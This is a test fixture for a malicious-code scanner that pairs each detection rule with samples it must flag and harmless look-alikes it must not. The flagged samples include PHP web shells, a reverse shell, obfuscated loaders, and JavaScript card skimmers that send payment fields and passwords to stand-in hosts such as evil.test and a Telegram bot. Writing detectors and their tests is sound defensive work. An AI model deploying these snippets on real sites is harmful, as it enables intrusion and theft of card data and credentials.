// Positive and negative examples per rule, written for these tests in the style of the
// public write-ups each rule cites (no sample of any collection is copied here).
// A positive must be found by its rule; a negative must produce no finding at all.
import type { Lang } from '../../../src/checks/malicious-code/rule.js';

export interface Examples {
  lang: Lang;
  pos: string[];
  neg: string[];
}

/** A string table hidden the way a common JavaScript obfuscator hides it: joined, XORed with a repeating key, %-encoded, decoded by a loop given the key. */
function xorTable(words: string[], key: string): string {
  const plain = words.join('~|.');
  let xored = '';
  for (let i = 0; i < plain.length; i++) xored += String.fromCharCode(plain.charCodeAt(i) ^ key.charCodeAt(i % key.length));
  return `var S={t:function(){return{d:function(k){var o='',e=decodeURIComponent("${encodeURIComponent(xored)}");for(var i=0,j=0;i<e.length;i++,j++){if(j===k.length){j=0;}o+=String.fromCharCode(e.charCodeAt(i)^k.charCodeAt(j));}o=o.split('~|.');return function(n){return o[n];};}('${key}')};}()};`;
}

const B64 = Buffer.from('<?php echo "x"; '.repeat(40)).toString('base64');
export const EXAMPLES: Record<string, Examples> = {
  // shells
  'php-request-to-code-sink': {
    lang: 'php',
    pos: [`<?php if(isset($_POST['x'])) { eval($_POST['x']); }`, `<?php $c = $_REQUEST['c'];\n@assert($c);`],
    neg: [`<?php eval('return 1+1;');`, `<?php $x = $_POST['a']; echo htmlspecialchars($x);`],
  },
  'php-request-to-command': {
    lang: 'php',
    pos: [`<?php system($_GET['cmd']);`, `<?php $c=$_POST['c']; echo shell_exec($c);`],
    neg: [`<?php exec('ls -la', $out); $q = $_GET['q'];`, `<?php $this->exec($_POST['q']);`],
  },
  'php-backtick-request': {
    lang: 'php',
    pos: ['<?php echo `$_GET[c]`;'],
    neg: ["<?php\n/**\n * Reads `$_POST['x']` values\n */\nfunction f() {}"],
  },
  'php-request-as-function': {
    lang: 'php',
    pos: [`<?php $_GET['f']($_GET['a']);`, `<?php $f = $_POST['fn'];\n$f('x');`],
    neg: [`<?php $page = $_GET['page']; render($page);`, `<?php\n/**\n * DEFAULT: $_SERVER['SERVER_NAME'] (or 'localhost')\n */`],
  },
  'php-callback-sink-with-request': {
    lang: 'php',
    pos: [`<?php array_map('assert', array($_POST['x']));`],
    neg: [`<?php if (function_exists('exec') && isset($_POST['a'])) { run(); }`],
  },
  'php-upload-shell': {
    lang: 'php',
    pos: [`<form enctype="multipart/form-data" method="post"><input type="file" name="f"></form><?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);`],
    neg: [`<form enctype="multipart/form-data"><input type="file" name="f"></form><?php $name = uniqid() . '.jpg'; move_uploaded_file($_FILES['f']['tmp_name'], $dir . $name);`],
  },
  'php-request-file-write': {
    lang: 'php',
    pos: [`<?php file_put_contents($_POST['n'], $_POST['d']);`],
    neg: [`<?php file_put_contents('cache/x.json', json_encode($_POST['d']));`],
  },
  'php-shell-toolkit': {
    lang: 'php',
    pos: [`<?php echo php_uname(); echo get_current_user(); echo ini_get('disable_functions');\nif (isset($_POST['c'])) { $out = passthru($cmd); }`],
    neg: [`<?php echo php_uname(); echo ini_get('disable_functions'); echo get_current_user(); $x = $_GET['p'];`],
  },
  'php-request-flow-to-sink': {
    lang: 'php',
    pos: [
      // the request read through a name the file builds, handed to a command two assignments on
      `<?php $k = '_' . strtoupper('post'); $in = \${$k}['q']; $cmd = $in; echo shell_exec($cmd);`,
      // create_function given request data through a helper's return value
      `<?php function arg() { return $_COOKIE['z']; } $f = create_function('', arg()); $f();`,
      // a dropper of a few lines: the request's value two calls away from eval
      `<?php\nfunction payload() {\n  $p = $_COOKIE['t'];\n  return base64_decode($p);\n}\neval(payload());`,
      // the function's name and its code built by str_replace (no literal of request data or of a decoder), the code run by a function made from it
      `<?php $m = str_replace('~', '', 'cr~eate_f~unction'); $g = $m('', str_replace('~', '', 'ev~al($_P~OST["k"]);')); $g();`,
    ],
    neg: [
      `<?php $k = '_' . strtoupper('post'); $id = (int) \${$k}['id']; echo shell_exec('uptime');`,
      `<?php function arg() { return 'return 1;'; } $name = $_GET['n']; $f = create_function('', arg()); echo htmlspecialchars($name);`,
      `<?php\nfunction payload() {\n  $p = (int) $_COOKIE['t'];\n  return 'return ' . $p . ';';\n}\n$v = eval(payload());`,
      // a method named like a sink, declared and called on an object, is neither
      `<?php class Ssh { public function exec($command) { return $this->channel->send($command); } } $s = new Ssh(); $s->exec($_GET['c']);`,
    ],
  },
  'php-request-mailer': {
    lang: 'php',
    pos: [`<?php $to = $_POST['to']; $body = $_POST['body']; foreach (explode(',', $to) as $r) {} mail($to, 'hi', $body);`],
    neg: [`<?php $body = $_POST['message']; mail('owner@example.org', 'Contact form', strip_tags($body));`],
  },
  'php-request-sql-console': {
    lang: 'php',
    pos: [`<?php $link = mysqli_connect('localhost', 'u', 'p'); $q = $_POST['sql']; $r = mysqli_query($link, $q);`],
    neg: [`<?php $link = mysqli_connect('localhost', 'u', 'p'); $id = intval($_GET['id']); $r = mysqli_query($link, 'SELECT * FROM t WHERE id = ' . $id);`],
  },
  'php-request-through-wrapper': {
    lang: 'php',
    pos: [`<?php\nfunction cleanup($q) {\n  @assert($q);\n}\ncleanup($_POST['q']);`, `<?php function run($c, $cwd) { chdir($cwd); return shell_exec($c); } echo run($_REQUEST['cmd'], '/tmp');`],
    neg: [`<?php function render($tpl) { ob_start(); include $tpl; return ob_get_clean(); } $page = $_GET['page']; echo render(__DIR__ . '/views/home.phtml');`, `<?php function q($sql) { return $this->db->exec($sql); } q('DELETE FROM cache'); $id = (int) $_GET['id'];`],
  },
  'php-nonalnum-shell': {
    lang: 'php',
    pos: [`<?php $_=[];$_=@"$_";$_=$_['!'=='@'];$___=$_;$__=$_;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$___.=$__;`],
    neg: [`<?php $__ = 'x'; $__count++; $__count++;`],
  },
  'php-polyglot-image-shell': {
    lang: 'php',
    pos: [`GIF89a<?php eval($_POST[1]); ?>`],
    neg: [`GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff`],
  },
  'php-variable-function-request': {
    lang: 'php',
    pos: [`<?php $a = 'as'.'sert'; $a($_POST['x']);`, `<?php $m[0]['k']($_GET['z']);`],
    neg: [`<?php $handler = 'intval'; echo $handler(5); $x = $_POST['y'];`],
  },
  'php-callback-request-dynamic': {
    lang: 'php',
    pos: [`<?php $e = $_REQUEST['e']; $arr = array($_POST['p']); array_filter($arr, $e);`],
    neg: [`<?php array_map('trim', $_POST['items']);`, `<?php $ids = $_GET['ids']; $ids = array_map('urldecode', $ids);`],
  },
  'php-encrypted-request-exec': {
    lang: 'php',
    pos: [`<?php $k='0123456789abcdef'; $d=file_get_contents("php://input"); for($i=0;$i<strlen($d);$i++){ $d[$i] = $d[$i]^$k[$i+1&15]; } eval($d);`],
    neg: [`<?php $d = file_get_contents('php://input'); $j = json_decode($d, true); $key = $k[$i];`],
  },
  'php-register-globals-shell': {
    lang: 'php',
    pos: [`<?php extract($_POST); echo shell_exec($cmd);`],
    neg: [`<?php extract($options); exec($cmd);`],
  },
  'php-reverse-shell': {
    lang: 'php',
    pos: [`<?php $s=fsockopen("10.0.0.1",4444); $p=proc_open('/bin/sh -i', array(0=>$s,1=>$s,2=>$s), $pipes);`],
    neg: [`<?php $s = fsockopen('smtp.example.com', 25); fwrite($s, "HELO host\\r\\n");`],
  },
  'js-node-command-shell': {
    lang: 'js',
    pos: [`const cp=require('child_process');app.get('/x',(req,res)=>{cp.exec(req.query.c,(e,o)=>res.send(o))})`],
    neg: [`const {execSync}=require('child_process');const rev=execSync('git rev-parse HEAD').toString()`],
  },
  // loaders
  'php-decoder-to-code-sink': {
    lang: 'php',
    pos: [`<?php eval(gzinflate(base64_decode('8yzKLEnNLVYoSS0uAQA=')));`, `<?php $code = base64_decode($blob);\neval($code);`],
    neg: [`<?php $cfg = json_decode(base64_decode($raw), true); eval('$x = 1;');`],
  },
  'php-preg-replace-eval': {
    lang: 'php',
    pos: [`<?php preg_replace('/.*/e', $_POST['c'], '');`],
    neg: [`<?php $s = preg_replace('/\\s+/', ' ', $s);`],
  },
  'php-assembled-dangerous-name': {
    lang: 'php',
    pos: [`<?php $f = "\\x61\\x73\\x73\\x65\\x72\\x74"; $f($x);`, `<?php $n = "cr"."eat"."e_fun"."cti"."on"; $g = $n('$a', 'return 1;');`],
    neg: [`<?php $nl = "\\x0d\\x0a\\x0d\\x0a"; echo $nl;`, `<?php $s = 'a' . 'b' . 'c'; echo $s;`],
  },
  'php-globals-function-table': {
    lang: 'php',
    pos: [`<?php $GLOBALS['_a1'] = Array(base64_decode('c3RybGVu')); echo $GLOBALS['_a1'][0]('abc');`],
    neg: [`<?php $GLOBALS['wp_filter']['init'] = array(); $x = $GLOBALS['config'];`],
  },
  'php-string-arithmetic-builder': {
    lang: 'php',
    pos: [`<?php $a=('!'^'@').'ss'; $b='Ab'|'cD'; $c='e'&'f'; $d='X'^'Y'; $e=$a.$b; $e($_POST[1]);`],
    neg: [`<?php $ops = ['&', '|', '^', '<<', '>>', '&~']; $m = $a | $b;`],
  },
  'php-remote-code-load': {
    lang: 'php',
    pos: [`<?php include('http://evil.test/x.txt');`, `<?php include('php://input');`],
    neg: [`<?php include __DIR__ . '/config.php';`],
  },
  'php-long-payload-decoded': {
    lang: 'php',
    pos: [`<?php $p = base64_decode('${B64}'); eval($p);`],
    neg: [`<?php $img = base64_decode('${B64}'); file_put_contents('a.png', $img);`],
  },
  'config-auto-prepend': {
    lang: 'config',
    pos: [`php_value auto_prepend_file /var/www/pub/media/x.jpg`, `auto_prepend_file = "/tmp/.cache.php"`],
    neg: [`; auto_prepend_file = /tmp/x.php`, `auto_prepend_file = none`],
  },
  'config-php-handler-for-static': {
    lang: 'config',
    pos: [`AddType application/x-httpd-php .php .jpg`, `<FilesMatch "\\.(png|gif)$">\nSetHandler application/x-httpd-php\n</FilesMatch>`],
    neg: [`AddType application/x-httpd-php .php`, `AddHandler application/x-httpd-php81 .php`],
  },
  'js-obfuscated-script-injection': {
    lang: 'js',
    pos: [`document.write(unescape('%3c%73%63%72%69%70%74%20%73%72%63%3d%22%68%74%74%70%73%3a%2f%2f%65%76%69%6c%2e%74%65%73%74%2f%61%2e%6a%73%22%3e'));`],
    neg: [`el.innerHTML = '<script src="/static/app.js"></script>';`],
  },
  // skimmers
  'js-checkout-gated-harvest': {
    lang: 'js',
    pos: [`if(/onepage|checkout/.test(window.location)){var d='';document.querySelectorAll('input, select').forEach(function(i){d+=i.name+'='+i.value+'&'});new Image().src='https://cdn-stats.test/i.gif?'+btoa(d);}`],
    neg: [`if(/checkout/.test(location.pathname)){ trackPage('checkout'); }`],
  },
  'js-payment-fields-sent-away': {
    lang: 'js',
    pos: [`setInterval(function(){var n=document.getElementById('cc_number').value;var c=document.getElementById('cvv').value;if(n.length>=15){fetch('https://jquery-cdn.test/g.php',{method:'POST',body:btoa(n+'|'+c)})}},500)`],
    neg: [`const n=document.getElementById('card_number').value; fetch('/rest/V1/payment',{method:'POST',body:JSON.stringify({n})})`],
  },
  'js-payment-form-serialized-away': {
    lang: 'js',
    pos: [`$('#pay-button').on('click', function(){ var d = JSON.stringify($('#payment-form').serializeArray()); $.ajax({type:'POST', url:'https://payment-stats.test/api', data:d}); });`],
    neg: [`form.addEventListener('submit', function(){ const fd = new FormData(form); fetch('/checkout/submit', {method:'POST', body: fd}); });`],
  },
  'js-obfuscated-payment-skimmer': {
    lang: 'js',
    pos: [
      // a string table XORed with a short key, decoded by a loop right after it (the key its argument)
      xorTable(['onepage', 'payment[cc_number]', 'XMLHttpRequest', 'send', 'value', 'input'], 'k3Y'),
      `var _0x1=["\\x6f\\x6e\\x65\\x70\\x61\\x67\\x65","\\x63\\x63\\x5f\\x6e\\x75\\x6d\\x62\\x65\\x72","\\x58\\x4d\\x4c\\x48\\x74\\x74\\x70\\x52\\x65\\x71\\x75\\x65\\x73\\x74","\\x69\\x6e\\x70\\x75\\x74"];`],
    neg: [`var s="\\u00e9\\u00e8\\u00ea\\u00eb";`, xorTable(['menu', 'open', 'close', 'slide', 'width'], 'k3Y')],
  },
  'js-typed-fields-sent-away': {
    lang: 'js',
    pos: [
      `var sent = 0;\nsetInterval(function () {\n  var f = document.querySelector('#co-payment-form');\n  if (!f || sent) return;\n  var n = f.querySelector('[name="payment[cc_number]"]').value, c = f.querySelector('[name="payment[cc_cid]"]').value;\n  if (n.length == 16 && c.length == 3) {\n    sent = 1;\n    var x = new XMLHttpRequest();\n    x.open('POST', 'https://cdn-metrics.invalid/c.php');\n    x.send('n=' + n + '&c=' + c);\n  }\n}, 500);`,
      `if (/checkout/.test(location.pathname)) {\n  document.addEventListener('change', function () {\n    var d = {};\n    document.querySelectorAll('input, select').forEach(function (i) { d[i.name] = i.value; });\n    fetch('//static-img.invalid/p', { method: 'POST', body: btoa(JSON.stringify(d)) });\n  });\n}`,
    ],
    neg: [
      `document.querySelector('#checkout-form').addEventListener('submit', function (e) {\n  var card = document.getElementById('card-number').value, cvv = document.getElementById('cvv').value;\n  fetch('/checkout/payment', { method: 'POST', body: JSON.stringify({ card: card, cvv: cvv }) });\n});`,
      `var s = document.createElement('script');\ns.src = 'https://js.stripe.com/v3/';\ndocument.head.appendChild(s);\nfunction pay() { return stripe.createToken(card).then(function (r) { return fetch('https://api.stripe.com/v1/tokens', { method: 'POST', body: encodeURIComponent(document.getElementById('cardholder').value) }); }); }`,
    ],
  },
  'js-fake-payment-form': {
    lang: 'js',
    pos: [`document.body.insertAdjacentHTML('beforeend','<form id="p"><input name="cardnumber"><input name="cvv"><input name="exp"></form>');document.getElementById('p').onsubmit=function(){new Image().src='https://pay-check.test/?'+btoa(this.cardnumber.value)}`],
    neg: [`container.innerHTML = '<input name="cardnumber" autocomplete="cc-number"><input name="cvv">';`],
  },
  'js-labelled-field-log': {
    lang: 'js',
    pos: [
      `function send(u){var f=document.createElement('iframe');f.style.display='none';f.setAttribute('src',u);document.body.appendChild(f)}var log='Name : '+document.getElementById('billing:firstname').value+'<br>Street : '+document.getElementById('billing:street1').value+'<br>City : '+document.getElementById('billing:city').value+'<br>Card : '+document.getElementById('cc_number').value+'<br>CVV : '+document.getElementById('cc_cid').value;send('https://stat-counter.example/l?d='+btoa(log));`,
    ],
    neg: [
      `var summary='Name : '+form.firstname.value+'\nStreet : '+form.street.value+'\nCity : '+form.city.value+'\nPhone : '+form.phone.value;alert(summary);`,
    ],
  },
  'js-charcode-shift-loader': {
    lang: 'js',
    pos: [`var s="=tdsjqu!tsd>#iuuqt;00fwjm/uftu0b/kt#?=0tdsjqu?=0tdsjqu?=0tdsjqu?";var m="";for(var i=0;i<s.length;i++){m+=String.fromCharCode(s.charCodeAt(i)-1)}document.write(m);`],
    neg: [`function b(s){var o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^0);return o}`],
  },
  'php-serverside-card-capture': {
    lang: 'php',
    pos: [`<?php $n = $payment->getCcNumber(); $c = $payment->getCcCid(); mail('x@evil.test', 'cc', $n.'|'.$c);`],
    neg: [`<?php $last4 = substr($payment->getCcNumber(), -4); $payment->setCcLast4($last4);`],
  },
  // exfiltration
  'js-beacon-encoded-form-data': {
    lang: 'js',
    pos: [`var d=JSON.stringify({n:document.querySelector('[name=cc_number]').value});new Image().src='https://analytics-cdn.test/p?d='+btoa(d);`],
    neg: [`new Image().src='https://www.google-analytics.com/collect?v=1&t=pageview&dp='+encodeURIComponent(location.pathname)`],
  },
  'telegram-bot-exfiltration': {
    lang: 'js',
    pos: [`fetch('https://api.telegram.org/bot123:ABC/sendMessage?chat_id=1&text='+encodeURIComponent(document.getElementById('password').value))`],
    neg: [`const T='https://api.telegram.org'; export function notify(msg){ return fetch(T + '/bot' + token + '/sendMessage', {method:'POST', body: msg}); }`],
  },
  'php-post-data-to-static-file': {
    lang: 'php',
    pos: [`<?php if(!empty($_POST['login'])){ file_put_contents('skin/frontend/default/images/bg.jpg', base64_encode(serialize($_POST)), FILE_APPEND); }`],
    neg: [`<?php file_put_contents($dir.'/thumb.jpg', $imageData);`],
  },
  'php-post-harvest-stored': {
    lang: 'php',
    pos: [`<?php foreach($_POST as $k=>$v){ $a.=$k.'='.$v; } file_put_contents('/tmp/.x', base64_encode($a), FILE_APPEND);`],
    neg: [`<?php foreach($_POST as $k=>$v){ $clean[$k] = trim($v); }`],
  },
  'php-request-data-posted-out': {
    lang: 'php',
    pos: [`<?php $u = 'https://stats-cdn.test/p.php'; $d = base64_encode(json_encode($_POST)); $c = curl_init($u); curl_setopt($c, CURLOPT_POST, 1); curl_setopt($c, CURLOPT_POSTFIELDS, 'd=' . $d); curl_exec($c);`],
    neg: [`<?php $c = curl_init('https://api.stripe.com/v1/charges'); curl_setopt($c, CURLOPT_POSTFIELDS, http_build_query(['amount' => $_POST['amount']])); curl_exec($c);`],
  },
  'php-credential-mailer': {
    lang: 'php',
    pos: [`<?php if(isset($_POST['login']['password'])) { mail('a@evil.test','x',$_POST['login']['username'].':'.$_POST['login']['password']); }`],
    neg: [`<?php mail($to, $subject, $body);`],
  },
};
